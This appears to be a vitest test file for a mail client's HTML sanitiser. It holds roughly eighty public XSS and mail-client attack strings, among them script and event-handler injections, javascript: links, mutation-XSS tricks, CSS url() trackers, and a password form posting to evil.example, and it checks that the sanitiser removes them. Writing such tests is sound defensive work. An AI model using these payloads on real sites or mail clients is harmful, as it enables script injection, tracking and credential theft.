import { describe, expect, it } from 'vitest';
import { htmlToText } from './html.text.ts';
import { contentIdsIn, sanitiseHtml } from './html.ts';
import { styleWithin } from './style.ts';

const tags = new Set(
  (
    'p div span br hr wbr a img b strong i em u s strike del ins sub sup small big font center blockquote pre code tt kbd samp ' +
    'cite q mark abbr address bdi bdo h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr td th ' +
    'section article header footer main figure figcaption'
  ).split(' '),
);
const attributes = new Set(
  (
    'dir lang title style align href rel target src data-remote-src alt width height color face size valign bgcolor border ' +
    'cellpadding cellspacing colspan rowspan nowrap scope span start type value'
  ).split(' '),
);

/** What is wrong with HTML that is to be shown, read by rules of its own: nothing but known tags, quoted attributes and text. */
function wrongs(html: string): string[] {
  const token = /<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"<>]*")?)*)( \/)?>|[^<>]+/gy;
  const found: string[] = [];
  let at = 0;
  for (const match of html.matchAll(token)) {
    if (match.index !== at) break;
    at += match[0].length;
    const [, , tag, given] = match;
    if (tag === undefined) continue;
    if (!tags.has(tag)) found.push(`<${tag}>`);
    for (const [, name = '', value = ''] of (given ?? '').matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      if (!attributes.has(name)) found.push(`${name}=`);
      const plain = value.replace(/&#?\w+;/g, '');
      if (name === 'href' && !/^(https?:\/\/|mailto:|tel:)/.test(value)) found.push(`href=${value}`);
      if (name === 'src' && !/^cid:/.test(value)) found.push(`src=${value}`);
      if (name === 'data-remote-src' && !/^https?:\/\//.test(value)) found.push(`data-remote-src=${value}`);
      if (name === 'style' && /url|expression|position|fixed|[\\@{}]|-\d|\/\*/i.test(plain))
        found.push(`style=${value}`);
    }
  }
  if (at !== html.length) found.push(`not HTML at ${html.slice(at, at + 40)}`);
  return found;
}

/** From public lists of cross-site scripting and mail-client attacks (OWASP's filter evasion sheet, reports on mutation XSS and on CSS). */
const hostile: [why: string, html: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script across lines and case', '<ScRiPt\n>alert(1)</sCrIpT\n>'],
  ['a script that another is put into', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script that is never closed', '<script>alert(1)'],
  ['a script with a slash', '<script/src=//evil.example></script>'],
  ['a handler', '<img src=x onerror=alert(1)>'],
  ['a handler without blanks', '<img/src="x"/onerror=alert(1)>'],
  ['a handler after a grave accent', '<img src=`x`onerror=alert(1)>'],
  ['a handler on a table', '<td background="javascript:alert(1)" onmouseover=alert(1)>x</td>'],
  [
    'handlers of animation and focus',
    '<p autofocus tabindex=1 onfocus=alert(1) style="animation-name:x" onanimationstart=alert(1)>x',
  ],
  ['a script address', '<a href="javascript:alert(1)">x</a>'],
  ['a script address in entities', '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>'],
  ['a script address with control characters', '<a href="\u0001java\tscript\n:alert(1)">x</a>'],
  ['a script address with a line feed entity', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['a script address percent-encoded', '<a href="javascript%3Aalert(1)">x</a>'],
  ['a script address behind a feed', '<a href="feed:javascript:alert(1)">x</a>'],
  ['a VBScript address', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a page of data', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
  ['a file address', '<a href="file:///etc/passwd">x</a><img src="file://server/share/p.png">'],
  [
    'an address within the product',
    '<a href="/api/users">x</a><a href="//evil.example">y</a><a href="?x">z</a>',
  ],
  ['an address that hides its host', '<a href="https://bank.example@evil.example/">x</a>'],
  ['a picture of data with a script', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
  [
    'a picture that is a script',
    '<img src="javascript:alert(1)" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  ],
  [
    'other sources of a picture',
    '<img srcset="https://evil.example/1 1x" longdesc="javascript:1" usemap="#m"><picture><source srcset="https://evil.example/2"></picture>',
  ],
  ['a picture that claims to be loaded already', '<img data-remote-src="javascript:alert(1)" src="cid:a">'],
  ['SVG with a script', '<svg><script>alert(1)</script></svg>'],
  ['SVG with a handler', '<svg/onload=alert(1)>'],
  [
    'SVG with a link and an animation',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  ],
  ['SVG with foreign HTML', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'],
  [
    'MathML with a link',
    '<math href="javascript:alert(1)">x</math><math><maction actiontype="statusline#http://x" xlink:href="javascript:1">x</maction></math>',
  ],
  [
    'mutation: math, mglyph and style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['mutation: svg, style and a comment', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mutation: noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  [
    'mutation: a form in a table',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  [
    'mutation: title and textarea',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea><title><a title="</title><img src onerror=1>">',
  ],
  [
    'mutation: xmp, noembed and noframes',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><img src=x onerror=1></noembed>',
  ],
  [
    'mutation: select and option',
    '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  ],
  [
    'mutation: template',
    '<template><s><template><s><img src=x onerror=alert(1)>@shadow</s></template></s></template>',
  ],
  ['a comment in a comment', '<!--<!-- --><img src=x onerror=alert(1)> -->'],
  ['a comment that ends early', '<!--> <img src=x onerror=alert(1)> -->'],
  ['a conditional comment', '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->'],
  ['a declaration that is a tag', '<!<script>alert(1)</script>'],
  [
    'a processing instruction',
    '<?xml version="1.0"?><?import namespace="t" implementation="#default#time2">',
  ],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['a NUL inside a tag', '<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x one\u0000rror=alert(1)>'],
  ['an attribute with a quote left open', '<img src="x title="><script>alert(1)</script>'],
  ['an attribute that ends in a tag', '<p title="><script>alert(1)</script>">x</p>'],
  [
    'a style element',
    '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/p)}</style>',
  ],
  ['a style element left open', '<style>@import url(//evil.example);'],
  [
    'a style sheet by link',
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href=//evil.example>',
  ],
  ['a picture in a style', '<p style="background:url(https://evil.example/p.gif)">x</p>'],
  [
    'a picture in a style, with escapes',
    '<p style="background:\\75rl(https://evil.example/p.gif)">x</p><p style="b\\61ckground-image:url(//e.example)">x</p>',
  ],
  ['a picture in a style, with a comment', '<p style="background:u/**/rl(https://evil.example/p.gif)">x</p>'],
  [
    'other pictures in a style',
    '<p style="list-style:url(//e.example/a);cursor:url(//e.example/b);content:url(//e.example/c);border-image:url(//e.example/d)">x',
  ],
  ['an image set', '<p style="background-image:image-set(\'https://e.example/a\' 1x)">x'],
  ['an expression', '<p style="width:expression(alert(1))">x</p>'],
  ['a binding', '<p style="-moz-binding:url(http://e.example/x.xml#a);behavior:url(x.htc)">x</p>'],
  [
    'a layer over everything',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Sign in again</div>',
  ],
  [
    'a layer by absolute place',
    '<div style="position:absolute;inset:0">x</div><div style="POSITION : Fixed !important">y</div>',
  ],
  [
    'a negative margin',
    '<div style="margin-top:-500px;margin:-1px">x</div><p style="text-indent:-9999px">y</p>',
  ],
  ['a shift', '<div style="transform:translate(-100px);translate:-5px;left:-9px;float:left">x</div>'],
  ['a variable', '<p style="--x:url(//e.example);color:var(--x)">x</p>'],
  ['a declaration in a string', '<p style="font-family:\'a;position:fixed;\'">x</p>'],
  [
    'frames',
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=x></frameset>',
  ],
  [
    'objects',
    '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet><param name=movie value=x>',
  ],
  [
    'a form',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  ],
  [
    'a form of another',
    '<input type=image src="https://evil.example/p.gif" form=f><isindex action=javascript:alert(1) type=submit>',
  ],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a policy', '<meta http-equiv="Content-Security-Policy" content="default-src *">'],
  ['a base', '<base href="https://evil.example/" target=_self><a href="x">x</a>'],
  [
    'sound and video',
    '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay onerror=alert(1)></video><audio src=//e.example></audio><bgsound src=//e.example>',
  ],
  [
    'names that shadow the page',
    '<p id="getElementById" name="cookie" class="modal">x</p><a name="location">y</a>',
  ],
  [
    'a background',
    '<body background="https://evil.example/p.gif"><table background="https://evil.example/q.gif"><tr><td>x',
  ],
  ['a marquee and a blink', '<marquee onstart=alert(1)>x</marquee><blink>y</blink>'],
  ['a custom element and a slot', '<x-evil onclick=alert(1)>x</x-evil><slot onslotchange=alert(1)></slot>'],
  ['a dialog and details that open', '<dialog open>x</dialog><details open ontoggle=alert(1)>y</details>'],
  [
    'a link that keeps its opener',
    '<a href="https://x.example" target="_self" rel="opener" ping="https://evil.example">x</a>',
  ],
  ['UTF-7 that somebody may read as such', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['full-width letters', '<a href="ｊavascript:alert(1)">x</a><ｓcript>alert(1)</ｓcript>'],
  ['an overlong style', `<p style="${'color:red;'.repeat(3000)}position:fixed">x</p>`],
];

describe('HTML of strangers', () => {
  it('is tried with at least forty attacks', () => expect(hostile.length).toBeGreaterThanOrEqual(40));

  it.each(hostile)('does no harm: %s', (_, html) => {
    for (const around of [
      html,
      `<div dir="rtl">سلام ${html}`,
      `<table><tr><td>${html}</table>`,
      `<pre>${html}</pre>`,
    ]) {
      const clean = sanitiseHtml(around) ?? '';
      expect(wrongs(clean)).toEqual([]);
      // What is clean stays as it is: nothing new comes to light when it is read again.
      expect(sanitiseHtml(clean)?.replace(/ data-remote-src="[^"]*"/g, '')).toBe(
        clean.replace(/ data-remote-src="[^"]*"/g, ''),
      );
    }
  });

  it('has its own judge, which knows harm when it sees it', () => {
    for (const bad of [
      '<script>',
      '<p onclick="x">',
      '<img src="x">',
      '<a href="javascript:x">',
      '<p style="margin:-1px">',
      '<p',
      '<svg>',
    ])
      expect(wrongs(bad), bad).not.toEqual([]);
  });

  it('keeps its words out of code', () => {
    expect(sanitiseHtml('a<style>b</style><script>c</script><title>d</title>e')).toBe('ae');
    expect(htmlToText('a<style>b</style><script>c</script>e')).toBe('ae');
  });
});

describe('HTML of mail programs', () => {
  it('keeps its look', () => {
    const given =
      '<table width="600" border="0" cellpadding="0" bgcolor="#ffffff"><tr><td align="right" valign="top" style="padding:10px 20px;font-family:Tahoma, \'Vazirmatn\';font-size:13.5pt;COLOR:#333;line-height:1.6">متن</td></tr></table>';
    expect(sanitiseHtml(given)).toBe(
      '<table width="600" border="0" cellpadding="0" bgcolor="#ffffff"><tr><td align="right" valign="top" style="padding:10px 20px;font-family:Tahoma, \'Vazirmatn\';font-size:13.5pt;color:#333;line-height:1.6">متن</td></tr></table>',
    );
    expect(sanitiseHtml('<div dir="rtl" lang="fa"><b>سلام</b>&nbsp;<i>x</i><br>')).toBe(
      '<div dir="rtl" lang="fa"><b>سلام</b>\u00a0<i>x</i><br /></div>',
    );
  });

  it('leads links into a window of their own that knows nothing of this one', () => {
    expect(sanitiseHtml('<a href=" https://x.example/پ?a=1&b=2 " target=_top>x</a>')).toBe(
      '<a href="https://x.example/%D9%BE?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
    expect(sanitiseHtml('<a href="mailto:a@b.example">a</a><a href="tel:+982100000000">b</a>')).toContain(
      'href="tel:',
    );
  });

  it('keeps pictures that came with the mail, and asks before fetching others', () => {
    const clean = sanitiseHtml(
      '<img src="cid:logo%40example" width=10><img src="CID:b"><img src="http://t.example/p.gif?u=1"><img src="//t.example/q">',
    );
    expect(clean).toBe(
      '<img width="10" src="cid:logo@example" /><img src="cid:b" /><img data-remote-src="http://t.example/p.gif?u=1" /><img data-remote-src="https://t.example/q" />',
    );
    expect(contentIdsIn(clean ?? '')).toEqual(new Set(['logo@example', 'b']));
  });

  it('gives up what nobody can read: too long, or nested too deep', () => {
    expect(sanitiseHtml('<p>x</p>'.repeat(200_000))).toBeNull();
    expect(sanitiseHtml('<div>'.repeat(100_000))).toBeNull();
    expect(htmlToText(`${'<div>'.repeat(100_000)}words`)).toContain('words');
    for (const unclosed of ['<p>x<br>', '<li>x', '<tr><td>x<td>y', '<dt>x<dd>y'])
      expect(sanitiseHtml(unclosed.repeat(5_000)), unclosed).toContain('x');
  });

  it('has a text for people without pictures', () => {
    expect(
      htmlToText(
        '<h1>Title</h1><p>One<br>two</p><ul><li>a</li><li>b</li></ul><table><tr><td>c</td><td>d</td></tr></table><a href="https://x.example/y">here</a> <a href="mailto:a@b.example">a@b.example</a><img src=x alt=y>',
      ),
    ).toBe('Title\n\nOne\ntwo\n\n * a\n * b\n\nc d\n\nhere <https://x.example/y> a@b.example');
  });
});

describe('a style', () => {
  it.each([
    ['color: RED !important', 'color:red'],
    ['margin:0 auto 10px', 'margin:0 auto 10px'],
    ['border-left:1px solid rgb(204, 204, 204)', 'border-left:1px solid rgb(204, 204, 204)'],
    ['width:100%;max-width:600px', 'width:100%;max-width:600px'],
    ['background-color:#fff;background:url(x)', 'background-color:#fff'],
    ['font-size:99999px', ''],
    ['margin-left:-1px', ''],
    ['margin:0 -1px', ''],
    ['mso-line-height-rule:exactly;line-height:normal', 'line-height:normal'],
    ['position:relative', ''],
    ['opacity:0;visibility:hidden', ''],
    ['color', ''],
    [':red', ''],
    ['', ''],
  ])('%s becomes “%s”', (given, expected) => {
    expect(styleWithin(given)).toBe(expected);
  });
});
